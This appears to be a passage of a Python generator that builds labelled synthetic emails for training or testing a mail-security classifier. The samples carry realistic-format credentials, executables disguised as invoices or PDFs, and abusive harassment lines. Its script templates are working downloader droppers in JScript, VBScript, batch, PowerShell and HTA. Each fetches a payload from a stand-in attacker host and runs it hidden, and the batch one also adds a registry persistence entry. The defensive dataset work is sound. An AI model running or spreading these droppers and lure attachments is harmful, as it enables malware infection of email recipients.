    "PW for the router admin page is «{pw}»",
    "Kennwort/password for the kiosk account: «{pw}»",
    "Log in with {user} and the code word «{pw}»; I've set it to not expire.",
    "Account: «{user}»\nPassword: «{pw}»",
    "It's «{pw}», capital at the start and no spaces.",
    "Sign in as admin, secret is «{pw}»",
]


def fam_cred_password(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    pw = gen_password(r)
    core = mk(r.choice(CRED_PW)).format(pw=pw, user=r_user(to) if r.random() < 0.6 else r.choice(["admin", "ops_admin", "svc_backup", "reception", "finance01"]))
    lead = r.choice(["Welcome aboard! Your account is ready.", "As requested, details for the shared account:",
                     "You asked for the login for the booking system.", "Here are the details so you can cover while I'm away.",
                     "The agency needs access from Monday.", ""])
    core = (lead + "\n\n" + core) if lead else core
    return spec("cred_password", {"credentials": "text"}, frm, to,
                r.choice(["Account details", "login", "access for Monday", "Re: can't sign in", "cover while I'm off",
                          "New starter", "portal access"]), compose(r, frm, to, core))


def conn_string(r):
    user = r.choice(["app", "svc_reporting", "etl_user", "webapp", "readonly", "payroll_svc"])
    pw = gen_password(r).replace("@", "!").replace("/", "_").replace(";", "_").replace(":", "_")
    host = r.choice(["db01.internal", "pg-prod.%s.local" % rid(r, 4), "10.20.%d.%d" % (r.randint(1, 254), r.randint(1, 254)),
                     "sql-eu-west.%s.rds.amazonaws.com" % rid(r, 10), "cluster0.%s.mongodb.net" % rid(r, 5)])
    db = r.choice(["prod", "crm", "payroll", "analytics", "orders"])
    return r.choice([
        "postgres://%s:%s@%s:5432/%s" % (user, pw, host, db),
        "postgresql://%s:%s@%s/%s?sslmode=require" % (user, pw, host, db),
        "mysql://%s:%s@%s:3306/%s" % (user, pw, host, db),
        "mongodb+srv://%s:%s@%s/%s?retryWrites=true" % (user, pw, host, db),
        "Server=%s;Database=%s;User Id=%s;Password=%s;" % (host, db, user, pw),
        "Data Source=%s;Initial Catalog=%s;User ID=%s;Pwd=%s;Encrypt=True" % (host, db, user, pw),
        "jdbc:postgresql://%s:5432/%s?user=%s&password=%s" % (host, db, user, pw),
        "redis://:%s@%s:6379/0" % (pw, host),
        "amqp://%s:%s@%s:5672/" % (user, pw, host),
    ])


def fam_cred_conn(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    cs = conn_string(r)
    core = mk(r.choice(["Here's the connection string for the reporting replica:\n\n«{cs}»",
                        "Can you point the dashboard at this instead?\n«{cs}»",
                        "DATABASE_URL=«{cs}»\n\nThat should get the staging build working again.",
                        "Config for the contractor, they need it today:\n\n  db:\n    url: «{cs}»",
                        "The old one was rotated, use «{cs}» from now on."])).format(cs=cs)
    return spec("cred_connstring", {"credentials": "text"}, frm, to,
                r.choice(["DB access", "reporting replica", "staging build", "contractor setup", "new connection string"]),
                compose(r, frm, to, core))


def aws_pair(r):
    kid = "AKIA" + "".join(r.choice(string.ascii_uppercase + "234567") for _ in range(16))
    sec = "".join(r.choice(string.ascii_letters + string.digits + "/+") for _ in range(40))
    return kid, sec


def fam_cred_aws(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    kid, sec = aws_pair(r)
    core = mk(r.choice([
        "Keys for the backup bucket:\n\naws_access_key_id = «{kid}»\naws_secret_access_key = «{sec}»\nregion = eu-west-2",
        "Access key «{kid}» / secret «{sec}». Scoped to the uploads bucket only.",
        "export AWS_ACCESS_KEY_ID=«{kid}»\nexport AWS_SECRET_ACCESS_KEY=«{sec}»\n\nRun that before the sync script.",
        "The IAM user for the vendor is ready. Key ID: «{kid}», secret: «{sec}».",
    ])).format(kid=kid, sec=sec)
    return spec("cred_aws", {"credentials": "text"}, frm, to, r.choice(["S3 access", "backup keys", "IAM user for vendor", "sync script"]),
                compose(r, frm, to, core))


def pem_block(r):
    kind = r.choice(["RSA PRIVATE KEY", "PRIVATE KEY", "OPENSSH PRIVATE KEY", "EC PRIVATE KEY", "ENCRYPTED PRIVATE KEY"])
    pre = {"RSA PRIVATE KEY": bytes.fromhex("308204a40201000282010100"), "PRIVATE KEY": bytes.fromhex("308204be020100300d06092a864886f70d0101010500048204a8"),
           "OPENSSH PRIVATE KEY": b"openssh-key-v1\x00\x00\x00\x00\x04none\x00\x00\x00\x04none",
           "EC PRIVATE KEY": bytes.fromhex("30770201010420"), "ENCRYPTED PRIVATE KEY": bytes.fromhex("308205063040")}[kind]
    n = {"EC PRIVATE KEY": 121}.get(kind, r.randint(600, 1200))
    data = pre + bytes(r.getrandbits(8) for _ in range(n))
    b = base64.b64encode(data).decode()
    w = 70 if kind == "OPENSSH PRIVATE KEY" else 64
    lines = [b[i:i + w] for i in range(0, len(b), w)]
    return "-----BEGIN %s-----\n%s\n-----END %s-----" % (kind, "\n".join(lines), kind)


def fam_cred_pem(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    key = pem_block(r)
    core = r.choice(["Here is the deploy key for the build server, add it to ~/.ssh and chmod 600:",
                     "Private key for the SFTP account below. The host is sftp.%s." % frm["dom"],
                     "Key for the TLS cert on the intranet box (the cert itself is already installed):",
                     "As promised, the signing key:"]) + "\n\n" + S + key + E
    return spec("cred_private_key", {"credentials": "text"}, frm, to, r.choice(["deploy key", "SFTP access", "TLS key", "signing key"]),
                compose(r, frm, to, core))


def b64url(b):
    return base64.urlsafe_b64encode(b).decode().rstrip("=")


def api_token(r):
    al = string.ascii_letters + string.digits
    k = r.randrange(9)
    if k == 0:
        return "Stripe", "sk_live_" + "".join(r.choice(al) for _ in range(r.choice([24, 34, 99])))
    if k == 1:
        return "GitHub", "ghp_" + "".join(r.choice(al) for _ in range(36))
    if k == 2:
        return "Slack", "xoxb-%d-%d-%s" % (r.randint(10 ** 10, 10 ** 12), r.randint(10 ** 12, 10 ** 13), "".join(r.choice(al) for _ in range(24)))
    if k == 3:
        hdr = b64url(json.dumps({"alg": "HS256", "typ": "JWT"}).encode())
        pl = b64url(json.dumps({"sub": str(r.randint(1000, 99999)), "name": r.choice(FIRST), "iat": 1700000000 + r.randint(0, 10 ** 7),
                                "scope": "admin"}).encode())
        sig = b64url(bytes(r.getrandbits(8) for _ in range(32)))
        return "Bearer", "Bearer " + hdr + "." + pl + "." + sig
    if k == 4:
        return "Google", "AIza" + "".join(r.choice(al + "_-") for _ in range(35))
    if k == 5:
        return "SendGrid", "SG." + "".join(r.choice(al + "_-") for _ in range(22)) + "." + "".join(r.choice(al + "_-") for _ in range(43))
    if k == 6:
        return "GitLab", "glpat-" + "".join(r.choice(al + "_-") for _ in range(20))
    if k == 7:
        return "npm", "npm_" + "".join(r.choice(al) for _ in range(36))
    return "OpenAI", "sk-proj-" + "".join(r.choice(al + "_-") for _ in range(48))


def fam_cred_token(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    svc, tok = api_token(r)
    if svc == "Bearer":
        core = mk(r.choice(["Try the call with this header, it's the admin service account:\n\nAuthorization: «{t}»",
                            "curl -H \"Authorization: «{t}»\" https://api.%s/v2/orders" % frm["dom"]])).format(t=tok)
    else:
        core = mk(r.choice(["The {s} key for production is «{t}», please put it in the vault when you get a chance.",
                            "api_key = «{t}»", "Token for the CI job: «{t}»",
                            "Here's the {s} token so you can finish the integration: «{t}»",
                            "{s}_TOKEN=«{t}»"])).format(t=tok, s=svc)
    return spec("cred_token", {"credentials": "text"}, frm, to, r.choice(["API key", "integration", "CI token", "prod key", "%s access" % svc]),
                compose(r, frm, to, core))


def fam_cred_pin(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    pin = "%04d" % r.randint(0, 9999)
    while len(set(pin)) < 3:
        pin = "%04d" % r.randint(0, 9999)
    core = mk(r.choice(["Your new card has been ordered. «Your PIN is {p}»; please memorise it and delete this email.",
                        "«PIN for the company credit card: {p}»", "Voicemail is set up, «the PIN is {p}».",
                        "For the fuel card, «PIN {p}». Don't write it on the card!",
                        "«Personal identification number: {p}» (for the door entry system you asked about)",
                        "The phone's unlock «PIN is {p}» until you change it."])).format(p=pin)
    return spec("cred_pin", {"credentials": "text"}, frm, to, r.choice(["card PIN", "voicemail", "fuel card", "your new phone", "door entry"]),
                compose(r, frm, to, core))


def fam_cred_wifi(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    pw = gen_password(r)
    core = mk(r.choice(["Guest Wi-Fi for the workshop: network {net}, «key {pw}».",
                        "The wifi password for the boardroom AP is «{pw}»",
                        "«SSID {net} / WPA2 passphrase: {pw}»"])).format(pw=pw, net=r.choice(["HL-Guest", "Meridian-Visitor", "BF-Events"]))
    return spec("cred_wifi", {"credentials": "text"}, frm, to, r.choice(["wifi", "workshop logistics", "visitor access"]),
                compose(r, frm, to, core))


def fam_cred_subject(ctx):
    r = ctx.rng
    frm, to = ctx.pair(external=False)
    pw = gen_password(r)
    subj = mk(r.choice(["New starter login - «{u} / {pw}»", "temp password «{pw}»", "pwd: «{pw}»"])).format(u=r_user(to), pw=pw)
    text = compose(r, frm, to, "See subject, change it when you first sign in.", filler=False)
    return spec("cred_subject", {"credentials": "header"}, frm, to, subj, text)


# Plain-word passwords: what people really choose (a word, a word and a year), given after an explicit
# label in the forms mail carries them: a field, a sentence, JSON or YAML pasted from a config, a URL.
PLAIN_WORDS = ["sunflower", "pelican", "tortoise", "marmalade", "juniper", "blackbird", "cinnamon", "harlequin",
               "tangerine", "lavender", "nightingale", "porcupine", "raspberry", "snowdrop", "buttercup", "kingfisher",
               "avalanche", "cardamom", "dragonfly", "wolfhound"]

CRED_PLAIN = [
    "Password: «{pw}»",
    "user: {user}, password: «{pw}»",
    "The password for the shared calendar is «{pw}».",
    "For the record, my old password was «{pw}»; they've locked it now.",
    "The door-entry app wants a password, it's «{pw}».",
    "Here's the block from the config:\n\n  smtp:\n    user: {user}\n    password: «{pw}»",
    "Paste this into the settings file: {{\"username\": \"{user}\", \"password\": \"«{pw}»\"}}",
    "The wiki is at «https://{user}:{pw}@wiki.{dom}/» until SSO is back.",
    "Passwort: «{pw}»",
    "pwd=«{pw}» (lower case)",
]


def fam_cred_plainword(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    w = r.choice(PLAIN_WORDS)
    pw = r.choice([w, w.upper(), w.capitalize(), w + str(r.randint(1, 9)), w.capitalize() + str(r.choice([2024, 2025]))])
    core = mk(r.choice(CRED_PLAIN)).format(pw=pw, user=r_user(to), dom=frm["dom"])
    return spec("cred_plainword", {"credentials": "text"}, frm, to,
                r.choice(["calendar login", "access", "config", "the old account", "door app", "wiki access"]),
                compose(r, frm, to, core))


def b32(r, n):
    return "".join(r.choice(string.ascii_uppercase + "234567") for _ in range(n))


def with_digit(r, n, al=string.ascii_letters + string.digits):
    while True:
        s = "".join(r.choice(al) for _ in range(n))
        if any(c.isdigit() for c in s):
            return s


def vendor_secret(r):
    """A token in one vendor's documented format, with a line that would carry it."""
    A, H = string.ascii_letters + string.digits, "0123456789abcdef"
    uu = lambda: "-".join(rid(r, n, H) for n in (8, 4, 4, 4, 12))
    k = r.randrange(16)
    if k == 0:
        return "GitLab", "GITLAB_TOKEN=«glpat-%s»" % with_digit(r, 20, A + "_-")
    if k == 1:
        return "Slack", "alerts go to «https://hooks.slack.com/services/T%s/B%s/%s»" % (
            rid(r, 8, string.ascii_uppercase + "0123456789"), rid(r, 10, string.ascii_uppercase + "0123456789"), with_digit(r, 24))
    if k == 2:
        return "Discord", "«https://discord.com/api/webhooks/%d/%s»" % (r.randint(10 ** 17, 10 ** 18), with_digit(r, 68, A + "_-"))
    if k == 3:
        return "Teams", "«https://%s.webhook.office.com/webhookb2/%s@%s/IncomingWebhook/%s/%s»" % (
            rid(r, 7, string.ascii_lowercase), uu(), uu(), rid(r, 32, H), uu())
    if k == 4:
        return "Telegram", "bot token «%d:AA%s»" % (r.randint(10 ** 8, 10 ** 9), with_digit(r, 33, A + "_-"))
    if k == 5:
        return "Twilio", "TWILIO_ACCOUNT_SID=«AC%s»\nTWILIO_AUTH_TOKEN=«%s»" % (rid(r, 32, H), with_digit(r, 32, H))
    if k == 6:
        return "Azure", "client secret for the app registration: «%s8Q~%s»" % (with_digit(r, 3), with_digit(r, 34, A + "_~.-"))
    if k == 7:
        return "DigitalOcean", "«dop_v1_%s»" % rid(r, 64, H)
    if k == 8:
        return "npm", "//registry.npmjs.org/:_authToken=«npm_%s»" % with_digit(r, 36)
    if k == 9:
        return "Hugging Face", "HF_TOKEN=«hf_%s»" % "".join(r.choice(string.ascii_letters) for _ in range(34))
    if k == 10:
        return "Anthropic", "«sk-ant-api03-%sAA»" % with_digit(r, 93, A + "_-")
    if k == 11:
        return "Shopify", "X-Shopify-Access-Token: «shpat_%s»" % rid(r, 32, H)
    if k == 12:
        return "Mailgun", "MAILGUN_API_KEY=«key-%s»" % rid(r, 32, H)
    if k == 13:
        return "Google Cloud", ("«{\n  \"type\": \"service_account\",\n  \"project_id\": \"%s-prod\",\n  \"private_key_id\": \"%s\",\n"
                                "  \"private_key\": \"-----BEGIN PRIVATE KEY-----\\n%s\\n-----END PRIVATE KEY-----\\n\"\n}»") % (
            rid(r, 6, string.ascii_lowercase), rid(r, 40, H), base64.b64encode(bytes(r.getrandbits(8) for _ in range(48))).decode())
    if k == 14:
        return "Docker Hub", "docker login -u ci -p «dckr_pat_%s»" % with_digit(r, 27, A + "_-")
    return "Atlassian", "JIRA_API_TOKEN=«ATATT3%s»" % with_digit(r, 186, A + "_-=")


def fam_cred_vendor(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    svc, line = vendor_secret(r)
    core = mk(r.choice(["The %s credentials for the new pipeline:\n\n{l}" % svc,
                        "Can you add this to the deploy settings before Friday?\n\n{l}",
                        "Here's what the contractor needs for %s:\n{l}\n\nPlease keep it off the wiki." % svc,
                        "{l}\n\nThat's the one from the old server, it still works."])).format(l=mk(line))
    return spec("cred_vendor", {"credentials": "text"}, frm, to,
                r.choice(["%s access" % svc, "pipeline settings", "deploy", "for the contractor", "integration"]),
                compose(r, frm, to, core))


# Placeholders, documentation examples and prose about passwords: no secret in any of them.
CRED_PLACEHOLDERS = [
    "Example .env for the new starters:\n\n  GITHUB_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxx\n  SLACK_BOT_TOKEN=xoxb-your-token\n  DB_PASSWORD=<redacted>",
    "The AWS docs use AKIAIOSFODNN7EXAMPLE and wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY in every sample, so do we.",
    "For the demo use Stripe's test key sk_test_{t} - it cannot charge a real card.",
    "Webhook format: https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX",
    "Connection string template: postgres://user:password@localhost:5432/app",
    "In the form, fill in Password: ******** and leave the rest blank.",
    "password: changeme\nusername: admin\n\n(that's the template; the real values live in the vault)",
    "I typed it twice and it keeps saying the password is incorrect. Can you unlock {u}?",
    "Your password has been changed. If this wasn't you, contact the service desk.",
    "api_key: {{{{ vault_api_key }}}}\npassword: ${{SMTP_PASSWORD}}\ntoken: %TOKEN%",
    "OPENAI_API_KEY=sk-...\nHF_TOKEN=hf_...\nANTHROPIC_API_KEY=your_api_key_here",
]


def fam_cred_placeholders(ctx):
    r = ctx.rng
    frm, to = ctx.pair(external=False)
    core = r.choice(CRED_PLACEHOLDERS).format(u=r_user(to), t=with_digit(r, 24))
    return neg_spec("neg_cred_placeholders", frm, to, r.choice(["env template", "docs", "Re: locked out", "config sample",
                                                                 "demo setup"]), compose(r, frm, to, core))


# --------------------------------------------------------------------------------------------
# attachments
# --------------------------------------------------------------------------------------------

def make_pe(r, x64=None, gui=True):
    x64 = r.random() < 0.5 if x64 is None else x64
    dos = bytearray(0x80)
    dos[0:2] = b"MZ"
    struct.pack_into("<HHHHHHHH", dos, 2, 0x90, 3, 0, 4, 0, 0xFFFF, 0, 0xB8)
    struct.pack_into("<H", dos, 0x18, 0x40)
    struct.pack_into("<I", dos, 0x3C, 0x80)
    stub = bytes.fromhex("0e1fba0e00b409cd21b8014ccd21") + b"This program cannot be run in DOS mode.\r\r\n$"
    dos[0x40:0x40 + len(stub)] = stub
    machine = 0x8664 if x64 else 0x14C
    opt_size = 0xF0 if x64 else 0xE0
    ts = 1600000000 + r.randint(0, 10 ** 8)
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", machine, 1, ts, 0, 0, opt_size, 0x0022 if x64 else 0x0102)
    if x64:
        opt = struct.pack("<HBBIIIII", 0x20B, 14, 29, 0x200, 0x200, 0, 0x1000, 0x1000) + struct.pack("<Q", 0x140000000)
    else:
        opt = struct.pack("<HBBIIIIII", 0x10B, 14, 29, 0x200, 0x200, 0, 0x1000, 0x1000, 0x2000) + struct.pack("<I", 0x400000)
    opt += struct.pack("<IIHHHHHHIIIIHH", 0x1000, 0x200, 6, 0, 0, 0, 6, 0, 0, 0x2000, 0x200, 0, 2 if gui else 3, 0x8160)
    if x64:
        opt += struct.pack("<QQQQII", 0x100000, 0x1000, 0x100000, 0x1000, 0, 16)
    else:
        opt += struct.pack("<IIIIII", 0x100000, 0x1000, 0x100000, 0x1000, 0, 16)
    opt += b"\0" * 128
    assert len(opt) == opt_size
    sect = struct.pack("<8sIIIIIIHHI", b".text\0\0\0", 0x180, 0x1000, 0x200, 0x200, 0, 0, 0, 0, 0x60000020)
    hdr = bytes(dos) + coff + opt + sect
    hdr += b"\0" * (0x200 - len(hdr))
    code = bytes([0x55, 0x48, 0x89, 0xE5] if x64 else [0x55, 0x89, 0xE5]) + bytes(r.getrandbits(8) for _ in range(0x180))
    code += b"\xc3" + b"\0" * (0x200 - len(code) - 1)
    tail = bytes(r.getrandbits(8) for _ in range(r.randint(0, 3) * 512))
    return hdr + code + tail


def make_elf(r):
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + b"\0" * 8
    body = bytes(r.getrandbits(8) for _ in range(r.randint(200, 800)))
    size = 64 + 56 + len(body)
    hdr = ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000 + 120, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    ph = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, size, size, 0x1000)
    return hdr + ph + body


def make_macho(r):
    hdr = struct.pack("<IiiIIII", 0xFEEDFACF, 0x01000007, 3, 2, 1, 72, 0x00200085) + b"\0\0\0\0"
    seg = struct.pack("<II16sQQQQiiII", 0x19, 72, b"__PAGEZERO", 0, 0x100000000, 0, 0, 0, 0, 0, 0)
    return hdr + seg + bytes(r.getrandbits(8) for _ in range(r.randint(300, 900)))


def zip_bytes(members):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            zi = zipfile.ZipInfo(name, date_time=(2024, 3, 14, 9, 30, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.external_attr = 0o644 << 16
            z.writestr(zi, data)
    return bio.getvalue()


JS = ("var sh = new ActiveXObject(\"WScript.Shell\");\r\nvar fso = new ActiveXObject(\"Scripting.FileSystemObject\");\r\n"
      "var url = \"https://%s/%s/update.dat\";\r\nvar tmp = sh.ExpandEnvironmentStrings(\"%%TEMP%%\") + \"\\\\%s.exe\";\r\n"
      "var x = new ActiveXObject(\"MSXML2.XMLHTTP\"); x.open(\"GET\", url, false); x.send();\r\n"
      "var s = new ActiveXObject(\"ADODB.Stream\"); s.Type = 1; s.Open(); s.Write(x.responseBody); s.SaveToFile(tmp, 2);\r\n"
      "sh.Run(tmp, 0, false);\r\n")
VBS = ("Set objShell = CreateObject(\"WScript.Shell\")\r\nSet objHTTP = CreateObject(\"MSXML2.ServerXMLHTTP\")\r\n"
       "objHTTP.Open \"GET\", \"http://%s/%s/inv.bin\", False\r\nobjHTTP.Send\r\n"
       "Set stream = CreateObject(\"ADODB.Stream\")\r\nstream.Type = 1 : stream.Open : stream.Write objHTTP.ResponseBody\r\n"
       "stream.SaveToFile objShell.ExpandEnvironmentStrings(\"%%APPDATA%%\") & \"\\%s.exe\", 2\r\n"
       "objShell.Run objShell.ExpandEnvironmentStrings(\"%%APPDATA%%\") & \"\\%s.exe\", 0\r\n")
BAT = ("@echo off\r\nsetlocal\r\npowershell -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -Command "
       "\"(New-Object Net.WebClient).DownloadFile('http://%s/%s/a.exe','%%TEMP%%\\%s.exe')\"\r\n"
       "start \"\" \"%%TEMP%%\\%s.exe\"\r\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ "
       "/d \"%%TEMP%%\\%s.exe\" /f\r\nexit\r\n")
PS1 = ("$u = 'https://%s/%s/payload.bin'\r\n$p = Join-Path $env:TEMP '%s.exe'\r\n"
       "Invoke-WebRequest -Uri $u -OutFile $p -UseBasicParsing\r\nStart-Process -FilePath $p -WindowStyle Hidden\r\n")
HTA = ("<html><head><HTA:APPLICATION id=\"x\" windowstate=\"minimize\"/>\r\n<script language=\"VBScript\">\r\n"
       "CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -c iwr http://%s/%s -OutFile $env:TEMP\\%s.exe\", 0\r\n"
       "self.close\r\n</script></head><body></body></html>\r\n")


def script_att(r):
    host = r.choice(["cdn-update.%s.com" % rid(r, 6), "%s.duckdns.org" % rid(r, 8), "185.%d.%d.%d" % (r.randint(0, 255), r.randint(0, 255), r.randint(1, 254))])
    path, stem = rid(r, 6), rid(r, 5)
    k = r.randrange(5)
    if k == 0:
        return ("invoice_%s.js" % rid(r, 4, string.digits), "application/javascript", (JS % (host, path, stem)).encode())
    if k == 1:
        return ("Remittance_Advice.vbs", "text/vbscript", (VBS % (host, path, stem, stem)).encode())
    if k == 2:
        return ("setup_printer.bat", "application/x-msdownload", (BAT % (host, path, stem, stem, stem)).encode())
    if k == 3:
        return ("update_drivers.ps1", "text/plain", (PS1 % (host, path, stem)).encode())
    return ("statement.hta", "application/hta", (HTA % (host, path, stem)).encode())


ATT_BODIES = ["Please find the invoice attached, payment terms 30 days.", "Scanned document attached.",
              "Here's the updated installer you asked for.", "Attached: statement for the period.",
              "Remittance advice attached for your records.", "Sending the file from the supplier as requested.",
              "The printer setup tool is attached, just run it on your machine.", "See attached order confirmation."]


def fam_attach(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    k = r.randrange(8)
    atts = []
    loc = "attachment"
    if k == 0:
        atts.append({"filename": r.choice(["Invoice_%s.pdf", "Statement_%s.pdf", "Scan_%s.pdf"]) % rid(r, 5, string.digits),
                     "ctype": "application/pdf", "data": make_pe(r)})
        fam = "att_pe_as_pdf"
    elif k == 1:
        atts.append({"filename": r.choice(["notes.txt", "readme.txt", "log_%s.txt" % rid(r, 4, string.digits)]),
                     "ctype": r.choice(["text/plain", "application/octet-stream"]), "data": make_pe(r)})
        fam = "att_pe_as_txt"
    elif k == 2:
        fn, ct = r.choice([("Order_Confirmation.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
                           ("photo_%s.jpg" % rid(r, 4, string.digits), "image/jpeg"),
                           ("Q3_figures.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
                           ("Rechnung_März.pdf", "application/pdf")])
        atts.append({"filename": fn, "ctype": ct, "data": make_pe(r), "rfc2231": "ä" in fn})
        fam = "att_pe_as_doc"
    elif k == 3:
        inner = r.choice(["Invoice_%s.exe", "setup.exe", "Document_%s.pdf.exe", "scan_%s.scr"])
        inner = inner % rid(r, 4, string.digits) if "%s" in inner else inner
        members = [(inner, make_pe(r))]
        if r.random() < 0.4:
            members.append(("readme.txt", b"Run the program to view the document.\r\n"))
        atts.append({"filename": r.choice(["documents.zip", "Invoice_%s.zip" % rid(r, 4, string.digits), "scan.zip"]),
                     "ctype": r.choice(["application/zip", "application/x-zip-compressed", "application/octet-stream"]),
                     "data": zip_bytes(members)})
        fam = "att_zip_exe"
        loc = "archive"
    elif k == 4:
        fn, ct, data = script_att(r)
        atts.append({"filename": fn, "ctype": ct, "data": data})
        fam = "att_script"
    elif k == 5:
        fn, ct, data = script_att(r)
        atts.append({"filename": "%s.zip" % rid(r, 6), "ctype": "application/zip", "data": zip_bytes([(fn, data)])})
        fam = "att_zip_script"
        loc = "archive"
    elif k == 6:
        if r.random() < 0.7:
            atts.append({"filename": r.choice(["backup.dat", "report.log", "data.csv", "sensor_export.bin"]),
                         "ctype": r.choice(["application/octet-stream", "text/plain", "text/csv"]), "data": make_elf(r)})
            fam = "att_elf"
        else:
            atts.append({"filename": r.choice(["Preview.pdf", "notes.rtf"]), "ctype": "application/octet-stream", "data": make_macho(r)})
            fam = "att_macho"
    else:
        atts.append({"filename": r.choice(["Invoice_%s.pdf.exe" % rid(r, 4, string.digits), "PrinterTool.exe", "update.scr"]),
                     "ctype": r.choice(["application/x-msdownload", "application/octet-stream"]), "data": make_pe(r)})
        fam = "att_pe_exe"
    text = compose(r, frm, to, r.choice(ATT_BODIES))
    subj = r.choice(["Invoice", "Scan from MFP", "Installer", "Statement", "Remittance advice", "Order confirmation",
                     "Re: files", "Documents", "Printer setup"])
    return spec(fam, {"attachment": loc}, frm, to, subj, text, attachments=atts)


# --------------------------------------------------------------------------------------------
# two categories in one message
# --------------------------------------------------------------------------------------------

def fam_combo_pci_cls(ctx):
    r = ctx.rng
    sp = r.choice([fam_pci_inline, fam_pci_block])(ctx)
    ban = S + r.choice(BANNERS[:12]).format(org=sp["frm"]["org"] or "Company") + E
    sp["text"] = ban + "\n\n" + sp["text"]
    sp["labels"] = {"pci": "text", "classification": "text"}
    sp["family"] = "combo_pci_classification"
    return sp


def fam_combo_cred_cls(ctx):
    r = ctx.rng
    sp = r.choice([fam_cred_password, fam_cred_conn, fam_cred_aws])(ctx)
    if r.random() < 0.5:
        ban = S + r.choice(["INTERNAL USE ONLY", "Classification: Restricted", "CONFIDENTIAL", "Company Confidential – do not forward"]) + E
        sp["text"] = ban + "\n\n" + sp["text"]
        sp["labels"] = {"credentials": "text", "classification": "text"}
    else:
        sp["subject"] = S + "[CONFIDENTIAL]" + E + " " + sp["subject"]
        sp["labels"] = {"credentials": "text", "classification": "header"}
    sp["family"] = "combo_credentials_classification"
    return sp


def fam_combo_har_cred(ctx):
    r = ctx.rng
    frm, to = ctx.pair(external=False)
    pw = gen_password(r)
    core = mk(r.choice(["For the third time, «your password is {pw}». «Write it down this time, you useless idiot.»",
                        "«Here's your bloody login again: {u} / {pw}». «Learn to read, moron.»",
                        "«Reset AGAIN. New one: {pw}.» «Are you fucking incapable of remembering anything?»"])).format(pw=pw, u=r_user(to))
    text = compose(r, frm, to, core, greet=False, footer_p=0, filler=False, opener="", closer="")
    return spec("combo_harassment_credentials", {"credentials": "text", "harassment": "text"}, frm, to,
                r.choice(["password", "Re: locked out", "AGAIN"]), text)


def fam_combo_pci_cred(ctx):
    r = ctx.rng
    frm = ctx.person(free=True)
    to = ctx.person(free=True)
    f = pan_fields(ctx)
    pw = gen_password(r)
    core = mk("While I'm away can you pay the gas bill? Online banking login is «{u}», «password {pw}», and if it asks "
              "for a card it's the debit one: «{pan}» exp {mm}/{yy}.").format(u=r_user(frm) + str(r.randint(10, 99)), pw=pw, **f)
    return spec("combo_pci_credentials", {"pci": "text", "credentials": "text"}, frm, to, "bills while I'm away",
                compose(r, frm, to, core, footer_p=0), [f["digits"]])


def fam_combo_att_cls(ctx):
    r = ctx.rng
    sp = fam_attach(ctx)
    sp["subject"] = S + r.choice(["[CONFIDENTIAL]", "[Internal]", "STRICTLY CONFIDENTIAL:"]) + E + " " + sp["subject"]
    sp["labels"] = dict(sp["labels"], classification="header")
    sp["family"] = "combo_attachment_classification:" + sp["family"]
    return sp


def fam_combo_chain_har(ctx):
    r = ctx.rng
    sp = fam_chain(ctx)
    extra = mk(r.choice(["«And if you don't send it on, you're a heartless bitch.»",
                         "«Anyone who deletes this is a selfish prick.»"]))
    sp["text"] = sp["text"].rstrip("\n") + "\n\n" + extra + "\n"
    sp["labels"] = {"chain_letter": "text", "harassment": "text"}
    sp["family"] = "combo_chain_harassment"
    return sp


# --------------------------------------------------------------------------------------------
# hard negatives
# --------------------------------------------------------------------------------------------

def grp(d, size=4, sep=" "):
    return sep.join(d[i:i + size] for i in range(0, len(d), size))


def neg_spec(family, frm, to, subj, text, **kw):
    return spec(family, {}, frm, to, subj, text, **kw)


def fam_neg_order(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    pre = r.choice(["4", "51", "53", "37", "6011", "35", "2223"])
    L = 15 if pre == "37" else 16
    num = luhn_fail_number(r, pre, L)
    shown = grp(num, 4, r.choice([" ", "-", ""]))
    tpl = r.choice([
        "Your order {n} has been dispatched and should arrive within 3 working days.",
        "Policy number: {n}\nRenewal date: {d} {m}\nPremium: {amt}",
        "Please quote customer reference {n} on all correspondence.",
        "Membership no. {n} — your annual pass is valid until {d} {m}.",
        "The loyalty account {n} has {k} points available to redeem.",
        "Invoice {n} remains unpaid; the amount due is {amt}.",
        "We have logged your claim under reference {n}. A handler will call you within two days.",
        "Booking reference {n}, arrival {d} {m}, two adults.",
    ])
    core = tpl.format(n=shown, d=r.randint(1, 28), m=r.choice(MONTHS), amt=money(r), k=r.randint(100, 9000))
    return neg_spec("neg_luhn_fail_number", frm, to, r.choice(["Your order", "Policy renewal", "Reference", "Membership",
                                                                 "Loyalty points", "Invoice reminder", "Claim logged", "Booking"]),
                    compose(r, frm, to, core))


def fam_neg_luhn_noiin(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    num = luhn_pass_noiin(r, r.choice([16, 16, 18]))
    core = r.choice(["Your reference number is {n}. Keep it for your records.",
                     "Consignment number {n} was scanned at the depot this morning.",
                     "Meter serial {n}, reading {k} kWh on {d} {m}.",
                     "Your case has been assigned tracking ID {n}."]).format(
